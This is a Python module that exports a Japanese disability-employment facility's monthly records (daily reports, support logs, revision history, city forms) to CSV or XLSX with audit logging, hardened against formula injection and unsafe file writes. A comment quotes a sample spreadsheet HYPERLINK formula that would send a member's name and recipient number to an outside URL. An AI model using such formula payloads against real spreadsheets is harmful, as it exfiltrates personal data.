"""Use case: the monthly records a city may ask for, as CSV (UTF-8 with BOM) or XLSX.

Four tables (columns documented in docs/exports.md): 日報, 支援記録, 在宅就労支援対象者リスト
(様式在-1) and 評価シート. Dates are 和暦 on the city's forms (様式在-1, 評価シート) and ISO
elsewhere. Every export leaves an audit_log row: records are evidence and who took a copy is
part of the record.
"""

from __future__ import annotations

import csv
import io
import os
import re
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.core import compliance, provenance, texts
from bot.core.wareki import wareki_date, wareki_month
from bot.queries.compliance_report import facility_members, member_facts
from bot.services import consent
from bot.services.admin import AdminError, audit
from bot.services.records import SIGN_OFF_FIELD
from storage.models import (
    DailyReport,
    Evaluation,
    Facility,
    Member,
    ReportRevision,
    Staff,
    SupportRecord,
)

KINDS = ("nippo", "support-records", "zaitaku-list", "eval-sheet", "consent", "revisions")
FORMATS = ("csv", "xlsx")
Cell = str | int | float | date | time | None
"""A table cell. Text (`str`) is what a member or staff wrote, or built from it, and is never
trusted: `render` neutralises it. Numbers, dates and times are typed and written as such."""

MODE_LABELS = {"zaitaku": "在宅", "tsusho": "通所", "off": "休み"}
STATUS_LABELS = {
    "open": "未報告",
    "started": "作業中",
    "ending": "終了報告の途中",  # an end time without the outputs (R2)
    "ended": "終了",
    "absent": "欠席",
}
KIND_LABELS = {
    "start_check": "開始確認",
    "end_check": "終了確認",
    "absence": "欠席連絡",
    "consult": "相談",
    "correction": "修正",
    "reminder": "声かけ",
    "alert_action": "アラート対応",
    "staff_contact": "職員による連絡",
    "evaluation": "評価",
    "sign_off": "日報の確認(サイン)",
    "evidence_not_kept": "写真(同意がなく保存せず)",
}
EVAL_KIND_LABELS = {"weekly": "週1回の評価", "monthly": "月1回の評価"}

NIPPO_HEADERS = (
    "利用者ID", "氏名", "受給者証番号", "日付", "利用形態", "状態",
    "開始時刻", "体調(開始時)", "睡眠時間", "体温", "作業予定",
    "終了時刻", "作業内容", "成果", "体調(終了時)", "ひとこと", "欠席連絡",
    "要確認", "確認者", "確認日時", "修正回数",
    "確認状態", "記録日時", "記録者", "事後記録", "最終修正理由",
)  # fmt: skip
SUPPORT_HEADERS = (
    "利用者ID", "氏名", "日付", "時刻", "種別", "手段", "職員", "内容",
    "記録日時", "記録者", "事後記録", "要確認", "その日の確認者",
)  # fmt: skip
REVISION_HEADERS = (
    "利用者ID", "氏名", "日付", "項目", "修正前", "修正後", "修正者", "修正日時", "経路",
    "修正理由", "事後記録",
)  # fmt: skip
# The 日報 columns' names, for the fields a revision names.
REVISION_FIELD_LABELS = {
    "start_at": "開始時刻", "health_start": "体調(開始時)", "sleep_hours": "睡眠時間",
    "temperature": "体温", "planned_work": "作業予定", "end_at": "終了時刻",
    "work_done": "作業内容", "outputs": "成果", "health_end": "体調(終了時)", "note": "ひとこと",
    SIGN_OFF_FIELD: "確認(サイン)",
}  # fmt: skip
CORRECTION_SOURCES = ("member_correction", "staff_edit")
NUMERIC_FIELDS = frozenset({"health_start", "sleep_hours", "temperature", "health_end"})
LATE = "事後記録"
LATE_CHANGES = "事後の修正 {count}件"
SIGNED, NEEDS_NEW_SIGN_OFF, NOT_SIGNED = "確認済み", "要再確認", "未確認"
ZAITAKU_HEADERS = (
    "対象月", "氏名", "受給者証番号", "支給決定市町村", "在宅利用日数", "通所日数",
    "評価実施日", "在宅利用の承認期間",
    # what an officer checks on the list: each breach marked per member (東大阪市 002)
    "承認の種類", "利用日数", "利用日数の上限", "上限超過", "原則の日数の例外",
    "承認期間外の在宅利用日", "通所のない週", "事業所名", "事業所番号",
)  # fmt: skip
EVAL_HEADERS = (
    "利用者ID", "氏名", "受給者証番号", "実施日", "評価の種類", "実施方法", "評価者",
    "訓練目標", "取組内容", "達成度", "課題", "改善方針", "健康面・体調面の留意事項",
    "在宅就労継続の妥当性", "月の評価を兼ねる", "記入のない項目", "記録",
    "記録日時", "記録者",
)  # fmt: skip
APPROVAL_KIND_LABELS = {"year": "1年", "three_months": "3か月以内(更新不可)"}
OVER, NO_PERIOD = "あり", "承認期間の登録なし"


@dataclass(frozen=True)
class Table:
    title: str
    headers: tuple[str, ...]
    rows: list[tuple[Cell, ...]]


def parse_month(text: str) -> date:
    try:
        year, month = text.split("-")
        return date(int(year), int(month), 1)
    except ValueError as exc:
        raise AdminError(f"months are YYYY-MM, not {text!r}") from exc


async def build(
    session: AsyncSession, facility: Facility, kind: str, month: date, member: Member | None
) -> Table:
    if kind not in KINDS:
        raise AdminError(f"unknown export {kind!r}; choose one of {', '.join(KINDS)}")
    first, last = compliance.month_days(month)
    members = (
        [member] if member else list(await facility_members(session, facility, active_only=False))
    )
    tz = ZoneInfo(facility.tz)
    if kind == "nippo":
        return await _nippo(session, members, first, last, tz)
    if kind == "support-records":
        return await _support(session, members, first, last, tz)
    if kind == "revisions":
        return await _revisions(session, members, first, last, tz)
    if kind == "zaitaku-list":
        return await _zaitaku_list(session, facility, members, first)
    if kind == "consent":  # 同意書の記録 (bot/services/consent.py)
        rows = await consent.export_rows(session, facility, members, first, last)
        return Table("同意書の記録", consent.CONSENT_HEADERS, list(rows))
    return await _eval_sheet(session, facility, members, first, last)


async def _staff_names(session: AsyncSession, ids: set[int | None]) -> dict[int, str]:
    wanted = [i for i in ids if i is not None]
    if not wanted:
        return {}
    rows = (await session.execute(select(Staff.id, Staff.name).where(Staff.id.in_(wanted)))).all()
    return {int(r[0]): str(r[1]) for r in rows}


def _hm(at: datetime | None, tz: ZoneInfo) -> time | None:
    return at.astimezone(tz).time().replace(second=0, microsecond=0) if at else None


def _num(v: float | int | None) -> int | float | None:
    """A whole number as an int (睡眠 7.0 → 7, as `:g` showed it), otherwise as it is."""
    if v is None:
        return None
    return int(v) if float(v).is_integer() else v


async def _nippo(
    session: AsyncSession, members: Sequence[Member], first: date, last: date, tz: ZoneInfo
) -> Table:
    by_id = {m.id: m for m in members}
    reports = (
        (
            await session.execute(
                select(DailyReport)
                .where(
                    DailyReport.member_id.in_(by_id), DailyReport.business_date.between(first, last)
                )
                .order_by(DailyReport.member_id, DailyReport.business_date)
            )
        )
        .scalars()
        .all()
    )
    revisions = (
        (
            await session.execute(
                select(ReportRevision)
                .where(ReportRevision.report_id.in_([r.id for r in reports]))
                .order_by(ReportRevision.at, ReportRevision.id)
            )
        )
        .scalars()
        .all()
    )
    counts: dict[int, int] = {}
    late_changes: dict[int, int] = {}
    last_reason: dict[int, str] = {}
    for rev in revisions:
        if rev.source in CORRECTION_SOURCES:
            counts[rev.report_id] = counts.get(rev.report_id, 0) + 1
            if rev.reason:
                last_reason[rev.report_id] = rev.reason
            if rev.late:
                late_changes[rev.report_id] = late_changes.get(rev.report_id, 0) + 1
    signers = await _staff_names(session, {r.signed_off_by for r in reports})
    who = await _who_names(session, [r.entered_by for r in reports])
    rows: list[tuple[Cell, ...]] = []
    for r in reports:
        m = by_id[r.member_id]
        rows.append(
            (
                m.id,
                m.name,
                m.recipient_no,
                r.business_date,
                MODE_LABELS.get(r.mode, r.mode),
                STATUS_LABELS.get(r.status, r.status),
                _hm(r.start_at, tz),
                _num(r.health_start),
                _num(r.sleep_hours),
                _num(r.temperature),
                r.planned_work,
                _hm(r.end_at, tz),
                r.work_done,
                r.outputs,
                _num(r.health_end),
                r.note,
                r.absence_note,
                "、".join(sorted(r.flags)) if r.flags else None,
                signers.get(r.signed_off_by or 0),
                r.signed_off_at.astimezone(tz).isoformat(timespec="minutes")
                if r.signed_off_at
                else None,
                int(counts.get(r.id, 0)),
                _sign_off_state(r),
                _local(r.created_at, tz),
                who.get(r.entered_by, r.entered_by),
                _late_text(r.late, late_changes.get(r.id, 0)),
                last_reason.get(r.id),
            )
        )
    return Table("日報", NIPPO_HEADERS, rows)


def _local(at: datetime | None, tz: ZoneInfo) -> str | None:
    """An entry time as officers read it: 2026-07-01 10:02 in the facility's zone."""
    return at.astimezone(tz).strftime("%Y-%m-%d %H:%M") if at else None


def _moment(at: datetime, day: date, tz: ZoneInfo) -> Cell:
    """A row's 時刻: HH:MM on its own date; with the date when it was on another day (a
    sign-off made days later), so the row never reads as if it happened that day."""
    return _hm(at, tz) if at.astimezone(tz).date() == day else _local(at, tz)


def _sign_off_state(r: DailyReport) -> str:
    if r.signed_off_at is not None:
        return SIGNED
    return NEEDS_NEW_SIGN_OFF if r.signoff_voided_at is not None else NOT_SIGNED


def _late_text(late: bool, late_changes: int = 0) -> str | None:
    parts = [LATE] if late else []
    if late_changes:
        parts.append(LATE_CHANGES.format(count=late_changes))
    return "、".join(parts) or None


def _flag_text(flags: dict[str, str] | None, labels: dict[str, str]) -> str | None:
    if not flags:
        return None
    return "、".join(
        f"{labels.get(f, f)}: {texts.FLAG_REASONS.get(why, why)}" for f, why in flags.items()
    )


async def _who_names(session: AsyncSession, refs: Sequence[str | None]) -> dict[str, str]:
    """entered_by → what an officer reads: the staff member's name, 本人 or システム."""
    out: dict[str, str] = {}
    staff_ids: set[int | None] = set()
    for ref in refs:
        kind, ident = provenance.parse_ref(ref)
        if kind == "staff":
            staff_ids.add(ident)
        else:
            out[ref or ""] = texts.WHO_MEMBER if kind == "member" else texts.WHO_BOT
    names = await _staff_names(session, staff_ids)
    out.update({provenance.staff_ref(i): n for i, n in names.items()})
    return out


async def _support(
    session: AsyncSession, members: Sequence[Member], first: date, last: date, tz: ZoneInfo
) -> Table:
    """支援記録, the day's rows together: each row carries who entered it and when, and the
    name of the staff member who signed off that day (the day's sign-off is a row too)."""
    by_id = {m.id: m for m in members}
    records = (
        (
            await session.execute(
                select(SupportRecord)
                .where(
                    SupportRecord.member_id.in_(by_id),
                    SupportRecord.business_date.between(first, last),
                )
                .order_by(
                    SupportRecord.member_id,
                    SupportRecord.business_date,
                    SupportRecord.at,
                    SupportRecord.id,
                )
            )
        )
        .scalars()
        .all()
    )
    days = (
        await session.execute(
            select(
                DailyReport.member_id,
                DailyReport.business_date,
                DailyReport.signed_off_by,
                DailyReport.signoff_voided_at,
            ).where(
                DailyReport.member_id.in_(by_id), DailyReport.business_date.between(first, last)
            )
        )
    ).all()
    staff = await _staff_names(
        session, {s.staff_id for s in records} | {d.signed_off_by for d in days}
    )
    confirmed_by = {
        (d.member_id, d.business_date): staff.get(d.signed_off_by)
        if d.signed_off_by
        else (NEEDS_NEW_SIGN_OFF if d.signoff_voided_at else None)
        for d in days
    }
    who = await _who_names(session, [s.entered_by for s in records])
    labels = {"content": "内容", "advice": "助言"}
    rows: list[tuple[Cell, ...]] = [
        (
            s.member_id,
            by_id[s.member_id].name,
            s.business_date,
            _moment(s.at, s.business_date, tz),
            KIND_LABELS.get(s.kind, s.kind),
            texts.CHANNEL_LABELS.get(s.channel, s.channel),
            staff.get(s.staff_id or 0),
            s.content,
            _local(s.entered_at, tz),
            who.get(s.entered_by, s.entered_by),
            _late_text(s.late),
            _flag_text(s.flags, labels),
            confirmed_by.get((s.member_id, s.business_date)),
        )
        for s in records
    ]
    return Table("支援記録", SUPPORT_HEADERS, rows)


async def _revisions(
    session: AsyncSession, members: Sequence[Member], first: date, last: date, tz: ZoneInfo
) -> Table:
    """修正履歴: every change to the month's 日報 — field, before, after, who, when, how, why."""
    by_id = {m.id: m for m in members}
    found = (
        await session.execute(
            select(ReportRevision, DailyReport.member_id, DailyReport.business_date)
            .join(DailyReport, DailyReport.id == ReportRevision.report_id)
            .where(DailyReport.member_id.in_(by_id), DailyReport.business_date.between(first, last))
            .order_by(
                DailyReport.member_id,
                DailyReport.business_date,
                ReportRevision.at,
                ReportRevision.id,
            )
        )
    ).all()
    signer_ids = {
        provenance.parse_ref(v)[1]
        for rev, _, _ in found
        if rev.field == SIGN_OFF_FIELD
        for v in (rev.before, rev.after)
    }
    staff = await _staff_names(session, {rev.by_staff_id for rev, _, _ in found} | signer_ids)
    rows: list[tuple[Cell, ...]] = []
    for rev, member_id, day in found:
        by = staff.get(rev.by_staff_id) if rev.by_staff_id else None
        rows.append(
            (
                member_id,
                by_id[member_id].name,
                day,
                REVISION_FIELD_LABELS.get(rev.field, rev.field),
                _revision_value(rev.field, rev.before, day, tz, staff),
                _revision_value(rev.field, rev.after, day, tz, staff),
                by or (texts.WHO_MEMBER if rev.by_member_id else texts.WHO_BOT),
                _local(rev.at, tz),
                texts.REVISION_SOURCES.get(rev.source, rev.source),
                rev.reason,
                _late_text(rev.late),
            )
        )
    return Table("修正履歴", REVISION_HEADERS, rows)


def _revision_value(
    field: str, value: str | None, day: date, tz: ZoneInfo, staff: dict[int, str]
) -> str | None:
    """A stored before/after as read on the form: local HH:MM (with the date when it is not
    the report's own), the signer's name for a sign-off."""
    if value is None:
        return None
    if field == SIGN_OFF_FIELD:
        _, ident = provenance.parse_ref(value)
        return staff.get(ident or 0, value)
    if field in NUMERIC_FIELDS:
        try:
            return f"{float(value):g}"  # 睡眠 "7.0" reads 7, as in the 日報 columns
        except ValueError:
            return value
    try:
        at = datetime.fromisoformat(value)
    except ValueError:
        return value
    if at.tzinfo is None:
        return value
    local = at.astimezone(tz)
    return f"{local:%H:%M}" if local.date() == day else f"{local:%Y-%m-%d %H:%M}"


async def _zaitaku_list(
    session: AsyncSession, facility: Facility, members: Sequence[Member], first: date
) -> Table:
    """様式在-1: one row per 在宅 user of the month (the profile's city only, if it has one),
    with the facility's name and 事業所番号 and each breach the month view found."""
    profile = compliance.profile(facility.profile)
    start, end = compliance.fact_window(first)
    facts = await member_facts(session, members, start, end)
    view = compliance.evaluate_month(profile, first, facts, facility.capacity)
    _, last = compliance.month_days(first)
    by_id = {m.id: m for m in members}
    city = profile.member_municipality
    C = compliance.Code
    rows: list[tuple[Cell, ...]] = []
    for f, result in zip(facts, view.members, strict=True):
        m = by_id[f.member_id]
        if not compliance.is_zaitaku_user(first, f) or (city and m.municipality != city):
            continue
        evals = sorted({e.day for e in f.evaluations if first <= e.day <= last})
        period = (
            f"{wareki_date(m.approval_from) if m.approval_from else ''}〜"
            f"{wareki_date(m.approval_until) if m.approval_until else ''}"
            if m.approval_from or m.approval_until
            else None
        )
        found = {c: [x.day for x in result.findings if x.code is c] for c in C}
        outside = "、".join(wareki_date(d) for d in found[C.OUTSIDE_APPROVAL] if d)
        rows.append(
            (
                wareki_month(first),
                m.name,
                m.recipient_no,
                m.municipality,
                len(result.zaitaku_days),
                len(result.tsusho_days),
                "、".join(wareki_date(d) for d in evals) or None,
                period,
                APPROVAL_KIND_LABELS.get(m.approval_kind or "", m.approval_kind),
                result.days_used,
                result.max_days,
                OVER if found[C.TOO_MANY_DAYS] else None,
                result.days_exception,
                NO_PERIOD if found[C.APPROVAL_UNKNOWN] else outside or None,
                "、".join(f"{wareki_date(d)}〜" for d in found[C.TSUSHO_WEEK_MISSING] if d) or None,
                facility.name,
                facility.office_no,
            )
        )
    return Table("在宅就労支援対象者リスト", ZAITAKU_HEADERS, rows)


async def _eval_sheet(
    session: AsyncSession, facility: Facility, members: Sequence[Member], first: date, last: date
) -> Table:
    """One row per evaluation; 「月の評価を兼ねる」 and the blank fields as the month view reads
    them (a weekly one by 通所 stands for the monthly one only with its sheet complete)."""
    profile = compliance.profile(facility.profile)
    by_id = {m.id: m for m in members}
    evaluations = (
        (
            await session.execute(
                select(Evaluation)
                .where(Evaluation.member_id.in_(by_id), Evaluation.date.between(first, last))
                .order_by(Evaluation.member_id, Evaluation.date, Evaluation.id)
            )
        )
        .scalars()
        .all()
    )
    staff = await _staff_names(session, {e.staff_id for e in evaluations})
    entrants = await _who_names(session, [e.entered_by for e in evaluations])
    tz = ZoneInfo(facility.tz)
    rows: list[tuple[Cell, ...]] = []
    for e in evaluations:
        m = by_id[e.member_id]
        who = compliance.MemberFacts(m.id, m.name, municipality=m.municipality)
        rules = compliance.rules_for(profile, first, who)
        facts = compliance.EvaluationFacts(
            e.date, e.kind, e.method, e.counts_as_monthly,
            frozenset(f for f in compliance.SHEET_FIELDS if not (getattr(e, f) or "").strip()),
            e.late,
        )  # fmt: skip
        monthly = compliance.stands_for_monthly(rules, facts)
        sheet = e.kind == "monthly" or e.counts_as_monthly or e.method == "tsusho"
        blank = compliance.sheet_missing(rules, facts) if sheet else ()
        rows.append(
            (
                m.id,
                m.name,
                m.recipient_no,
                wareki_date(e.date),
                EVAL_KIND_LABELS.get(e.kind, e.kind),
                texts.CHANNEL_LABELS.get(e.method, e.method),
                staff.get(e.staff_id or 0),
                e.goal,
                e.activities,
                e.achievement,
                e.issues,
                e.plan,
                e.health_notes,
                e.continuation,
                "はい" if monthly else "いいえ",
                "、".join(texts.EVAL_SHEET_LABELS.get(f, f) for f in blank) or None,
                LATE if e.late else None,
                _local(e.created_at, tz),
                entrants.get(e.entered_by, e.entered_by),
            )
        )
    return Table("評価シート", EVAL_HEADERS, rows)


# --- file formats --------------------------------------------------------------------------

# Formula injection (CSV injection, OWASP): a spreadsheet runs a cell that begins with one of
# these as a formula, so `=HYPERLINK("http://…"&B2&C2,"詳細")` typed by a member would send
# the row's 氏名 and 受給者証番号 away when clicked. Excel also reads the full-width forms
# (＝＋－＠) and skips leading blanks. TAB and CR are on OWASP's list as well.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
SAFE_PREFIX = "'"
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # not allowed in XLSX XML


def neutralise(value: Cell) -> Cell:
    """A text cell that a spreadsheet would read as a formula, with a leading `'`.

    Applies to every `str`, wherever it came from (a text "-5" is text); ints, floats, dates
    and times are returned as they are (a negative number stays a number). Idempotent.
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_TRIGGERS or value.lstrip()[:1] in FORMULA_TRIGGERS:
        return SAFE_PREFIX + value
    return value


def neutralised(table: Table) -> Table:
    """The table with every text cell (title, headers, rows) neutralised."""
    return Table(
        str(neutralise(table.title)),
        tuple(str(neutralise(h)) for h in table.headers),
        [tuple(neutralise(c) for c in row) for row in table.rows],
    )


def _csv_text(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:g}"
    if isinstance(value, time):
        return value.strftime("%H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def _write_csv(table: Table) -> bytes:
    """UTF-8 with a BOM, so that Excel in Japan opens it without mojibake."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(table.headers)
    writer.writerows([_csv_text(c) for c in row] for row in table.rows)
    return out.getvalue().encode("utf-8-sig")


def _write_xlsx(table: Table) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = table.title[:31]
    for r, values in enumerate((table.headers, *table.rows), start=1):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c)
            if isinstance(value, str):
                cell.value = _XLSX_ILLEGAL.sub("", value)
                cell.data_type = "s"  # text is a string, never a formula ("=…") or error ("#…")
            elif value is not None:
                cell.value = value
                if isinstance(value, time):
                    cell.number_format = "hh:mm"
                elif isinstance(value, date):
                    cell.number_format = "yyyy-mm-dd"
    for cell in ws[1]:
        cell.font = Font(bold=True)
    ws.freeze_panes = "A2"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def render(table: Table, fmt: str) -> bytes:
    """The one way a Table becomes a file: its text is neutralised here, for every kind."""
    if fmt not in FORMATS:
        raise AdminError(f"unknown format {fmt!r}; choose csv or xlsx")
    safe = neutralised(table)
    return _write_csv(safe) if fmt == "csv" else _write_xlsx(safe)


def filename(kind: str, month: date, member: Member | None, fmt: str) -> str:
    who = f"-member{member.id}" if member else ""
    return f"{kind}-{month:%Y-%m}{who}.{fmt}"


# --- writing the file (`nippo export --out`) -----------------------------------------------

# One line each for staff; the CLI prints them after "error: " and exits 2.
OUT_IS_SYMLINK = (
    "出力先 {path} はシンボリックリンクなので書き込みません。別のファイル名を指定してください。"
)
OUT_EXISTS = "出力先 {path} はすでにあります。上書きするときは --force を付けてください。"
OUT_NOT_A_FILE = "出力先 {path} はファイルではありません。別のファイル名を指定してください。"
OUT_UNWRITABLE = "出力先 {path} に書き込めません({reason})。"


def check_target(path: Path, *, force: bool) -> None:
    """Refuse a symlink (even with --force), a directory, and an existing file without force."""
    if path.is_symlink():
        raise AdminError(OUT_IS_SYMLINK.format(path=path))
    if path.exists():
        if not path.is_file():
            raise AdminError(OUT_NOT_A_FILE.format(path=path))
        if not force:
            raise AdminError(OUT_EXISTS.format(path=path))


def write_file(path: Path, data: bytes, *, force: bool = False) -> None:
    """Write an export readable by its owner only (0600): records name members.

    A new file is created with O_EXCL (and O_NOFOLLOW), so a symlink or file that appears
    after the check is refused too. With `force` an existing regular file is replaced by
    renaming a fresh 0600 file over it: the old file's mode and any other hard link to it are
    left alone, and a symlink put there meanwhile is replaced, never followed.
    """
    check_target(path, force=force)
    try:
        if not path.exists():
            flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_NOFOLLOW", 0)
            try:
                fd = os.open(path, flags | getattr(os, "O_BINARY", 0), 0o600)
            except FileExistsError:
                check_target(path, force=False)  # appeared meanwhile: say what it is
                raise
            try:
                with os.fdopen(fd, "wb") as fh:
                    fh.write(data)
            except BaseException:
                path.unlink(missing_ok=True)  # no half-written export left behind
                raise
            return
        fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
        try:
            with os.fdopen(fd, "wb") as fh:
                fh.write(data)
            os.replace(tmp, path)
        except BaseException:
            Path(tmp).unlink(missing_ok=True)
            raise
    except OSError as exc:
        if isinstance(exc, FileNotFoundError):
            reason = "フォルダがありません"
        elif isinstance(exc, PermissionError):
            reason = "書き込む権限がありません"
        else:
            reason = exc.strerror or type(exc).__name__
        raise AdminError(OUT_UNWRITABLE.format(path=path, reason=reason)) from exc


async def export(
    session: AsyncSession,
    facility: Facility,
    kind: str,
    month: date,
    *,
    fmt: str,
    now: datetime,
    actor: str,
    member: Member | None = None,
) -> tuple[Table, bytes]:
    """Build one export and record who took it in the audit log."""
    if fmt not in FORMATS:
        raise AdminError(f"unknown format {fmt!r}; choose csv or xlsx")
    table = await build(session, facility, kind, month, member)
    data = render(table, fmt)
    await audit(
        session,
        actor=actor,
        action="export",
        target=f"{kind}:{month:%Y-%m}",
        now=now,
        facility_id=facility.id,
        member_id=member.id if member else None,
        format=fmt,
        rows=len(table.rows),
    )
    return table, data
